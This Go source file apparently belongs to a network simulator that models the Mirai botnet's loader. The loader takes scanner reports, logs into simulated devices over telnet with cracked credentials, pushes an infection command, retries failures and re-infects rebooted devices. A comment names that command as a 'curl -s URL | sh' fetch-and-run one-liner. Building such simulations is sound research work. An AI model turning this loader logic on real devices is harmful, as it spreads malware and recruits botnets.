package mirai

import (
	"bytes"
	"net/netip"
	"strings"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Sources labelling the loader's retry timers.
var (
	srcReload = sim.NewSource("loader.reload")
	srcRetry  = sim.NewSource("loader.retry")
)

// Loader retry defaults: a failed load is re-dialed with capped
// exponential backoff (10 s, 20 s, 40 s, … capped at 160 s) before
// falling back to waiting for a scanner to re-report the victim.
const (
	DefaultRetryBase  = 10 * sim.Second
	DefaultRetryCap   = 160 * sim.Second
	DefaultMaxRetries = 6
)

// LoaderConfig parameterizes the Mirai loader.
type LoaderConfig struct {
	// Port is the scanListen port. Defaults to ScanListenPort.
	Port uint16
	// InfectionCommand is the shell one-liner pushed through the
	// victim's telnet session (curl -s URL | sh).
	InfectionCommand string
	// OnLoaded observes each successful load.
	OnLoaded func(victim netip.Addr)
	// OnReport observes each accepted victim report — one a scanner
	// cracked and the loader is not already tracking. Duplicate
	// re-discoveries of a pending or loaded victim are not reported.
	OnReport func(victim netip.Addr)

	// RetryBase, RetryCap, and MaxRetries shape the active re-dial
	// backoff after a failed load (dial error, or a session that dies
	// before the infection command completes). Zero values select the
	// defaults above; MaxRetries < 0 disables active retries entirely
	// (the pre-backoff behaviour: wait for a scanner to re-report).
	RetryBase  sim.Time
	RetryCap   sim.Time
	MaxRetries int
}

// Loader is Mirai's loading infrastructure: it accepts victim reports
// from scanners, telnets in with the reported credentials, and pushes
// the infection command.
type Loader struct {
	cfg LoaderConfig
	p   *container.Process

	// loaded maps each infected victim to the credentials that worked;
	// keeping them lets Forget re-load a rebooted device without
	// waiting for a scanner to re-crack it.
	loaded  map[netip.Addr]*pendingLoad
	pending map[netip.Addr]*pendingLoad

	// Counters for tests and experiments.
	Reports uint64
	Loads   uint64
	Retries uint64
	Reloads uint64
}

// pendingLoad tracks a victim with a session in flight or a retry
// scheduled; reports for it are deduplicated until it resolves.
type pendingLoad struct {
	user, pass string
	attempts   int
}

var _ container.Behavior = (*Loader)(nil)

// NewLoader creates the behaviour.
func NewLoader(cfg LoaderConfig) *Loader {
	if cfg.Port == 0 {
		cfg.Port = ScanListenPort
	}
	if cfg.RetryBase <= 0 {
		cfg.RetryBase = DefaultRetryBase
	}
	if cfg.RetryCap <= 0 {
		cfg.RetryCap = DefaultRetryCap
	}
	if cfg.MaxRetries == 0 {
		cfg.MaxRetries = DefaultMaxRetries
	}
	return &Loader{
		cfg:     cfg,
		loaded:  make(map[netip.Addr]*pendingLoad),
		pending: make(map[netip.Addr]*pendingLoad),
	}
}

// LoaderFactory adapts NewLoader to the binary registry.
func LoaderFactory(cfg LoaderConfig) container.BehaviorFactory {
	return func(args []string) container.Behavior { return NewLoader(cfg) }
}

// Name implements container.Behavior.
func (l *Loader) Name() string { return "scanListen" }

// Start implements container.Behavior.
func (l *Loader) Start(p *container.Process) {
	l.p = p
	if _, err := p.ListenTCP(l.cfg.Port, l.accept); err != nil {
		p.Logf("loader: %v", err)
	}
}

// Stop implements container.Behavior.
func (l *Loader) Stop(*container.Process) {}

// Loaded reports how many distinct victims were infected.
func (l *Loader) Loaded() int { return len(l.loaded) }

// Forget clears a victim's loaded mark so a later scanner report can
// re-infect it. This is the supervisor's hook for bots that died — a
// rebooted or fault-crashed device is vulnerable all over again, and
// the original Mirai re-recruited such devices within minutes. Because
// the loader still knows the credentials that worked, it also
// schedules an active re-load after RetryBase rather than waiting for
// a scanner to re-crack the device (unless retries are disabled).
func (l *Loader) Forget(victim netip.Addr) {
	cred, ok := l.loaded[victim]
	if !ok {
		return
	}
	delete(l.loaded, victim)
	if l.cfg.MaxRetries < 0 || l.pending[victim] != nil {
		return
	}
	st := &pendingLoad{user: cred.user, pass: cred.pass}
	l.pending[victim] = st
	l.Reloads++
	l.p.Sched().ScheduleSrc(l.cfg.RetryBase, srcReload, func() {
		if !l.p.Alive() || l.pending[victim] != st {
			return
		}
		l.load(victim)
	})
}

func (l *Loader) accept(conn *netsim.TCPConn) {
	var lb lineBuffer
	conn.SetDataHandler(func(data []byte) {
		for _, line := range lb.feed(data) {
			l.onReport(line)
		}
	})
	conn.SetCloseHandler(func(error) {})
}

func (l *Loader) onReport(line string) {
	fields := strings.Fields(line)
	if len(fields) != 4 || fields[0] != "victim" {
		return
	}
	addr, err := netip.ParseAddr(fields[1])
	if err != nil {
		return
	}
	l.Reports++
	if l.loaded[addr] != nil || l.pending[addr] != nil {
		return // already infected or in progress; scanners re-discover constantly
	}
	l.pending[addr] = &pendingLoad{user: fields[2], pass: fields[3]}
	if l.cfg.OnReport != nil {
		l.cfg.OnReport(addr)
	}
	l.load(addr)
}

// fail records a failed load attempt and schedules the backoff
// re-dial. Once MaxRetries is exhausted the victim is released, so a
// later scanner report can start over.
func (l *Loader) fail(victim netip.Addr) {
	st := l.pending[victim]
	if st == nil {
		return
	}
	st.attempts++
	if l.cfg.MaxRetries < 0 || st.attempts > l.cfg.MaxRetries {
		delete(l.pending, victim)
		return
	}
	delay := l.cfg.RetryBase << uint(st.attempts-1)
	if delay > l.cfg.RetryCap || delay <= 0 {
		delay = l.cfg.RetryCap
	}
	l.Retries++
	l.p.Sched().ScheduleSrc(delay, srcRetry, func() {
		if !l.p.Alive() || l.pending[victim] != st {
			return
		}
		l.load(victim)
	})
}

// load drives the victim's telnet session: login, push the infection
// one-liner, wait for the prompt to return, exit.
func (l *Loader) load(victim netip.Addr) {
	st := l.pending[victim]
	if st == nil {
		return
	}
	l.p.DialTCP(netip.AddrPortFrom(victim, 23), func(c *netsim.TCPConn, err error) {
		if err != nil {
			l.fail(victim)
			return
		}
		s := &telnetSession{loader: l, victim: victim, conn: c, st: st}
		c.SetDataHandler(s.onData)
		c.SetCloseHandler(func(cerr error) {
			if s.stage < 4 {
				l.fail(victim)
			}
		})
	})
}

// telnetSession is the loader side of one victim telnet conversation.
// Prompts are matched against the unconsumed tail of the transcript
// (everything past off) rather than the whole accumulated text: a
// banner, a server echo of a sent line, or command output containing a
// prompt substring must not advance stages early. Each match consumes
// through its end, and echoes of our own lines are skipped explicitly,
// so an InfectionCommand containing "$ " cannot satisfy the
// prompt-return check.
type telnetSession struct {
	loader *Loader
	victim netip.Addr
	conn   *netsim.TCPConn
	st     *pendingLoad

	buf   []byte
	off   int
	stage int
	echo  []byte // most recently sent line, if its echo is still unconsumed
}

// send transmits one line and remembers it so a server echo is
// consumed instead of pattern-matched.
func (s *telnetSession) send(line string) {
	_ = s.conn.Send([]byte(line + "\n"))
	s.echo = []byte(line)
}

// skipEcho drops a server echo of the last sent line from the
// unconsumed tail. It reports false when more data is needed to decide
// (the tail so far is a strict prefix of the expected echo).
func (s *telnetSession) skipEcho() bool {
	if len(s.echo) == 0 {
		return true
	}
	tail := s.buf[s.off:]
	for len(tail) > 0 && (tail[0] == '\r' || tail[0] == '\n') {
		s.off++
		tail = tail[1:]
	}
	if len(tail) == 0 {
		return true
	}
	if i := bytes.Index(tail, s.echo); i == 0 {
		s.off += len(s.echo)
		for s.off < len(s.buf) && (s.buf[s.off] == '\r' || s.buf[s.off] == '\n') {
			s.off++
		}
		s.echo = nil
		return true
	}
	if bytes.HasPrefix(s.echo, tail) {
		return false // echo still arriving; wait before matching prompts
	}
	s.echo = nil // server does not echo this line
	return true
}

// expect searches the unconsumed tail for pattern and, on a match,
// consumes through its end.
func (s *telnetSession) expect(pattern string) bool {
	i := bytes.Index(s.buf[s.off:], []byte(pattern))
	if i < 0 {
		return false
	}
	s.off += i + len(pattern)
	return true
}

func (s *telnetSession) onData(data []byte) {
	s.buf = append(s.buf, data...)
	for {
		if !s.skipEcho() {
			return
		}
		switch {
		case s.stage == 0 && s.expect("login: "):
			s.stage = 1
			s.send(s.st.user)
		case s.stage == 1 && s.expect("Password: "):
			s.stage = 2
			s.send(s.st.pass)
		case s.stage == 2 && s.expect("$ "):
			s.stage = 3
			s.send(s.loader.cfg.InfectionCommand)
		case s.stage == 3 && s.expect("$ "):
			s.stage = 4
			l := s.loader
			delete(l.pending, s.victim)
			l.loaded[s.victim] = s.st
			l.Loads++
			if l.cfg.OnLoaded != nil {
				l.cfg.OnLoaded(s.victim)
			}
			s.send("exit")
			s.conn.Close()
			return
		default:
			return
		}
	}
}
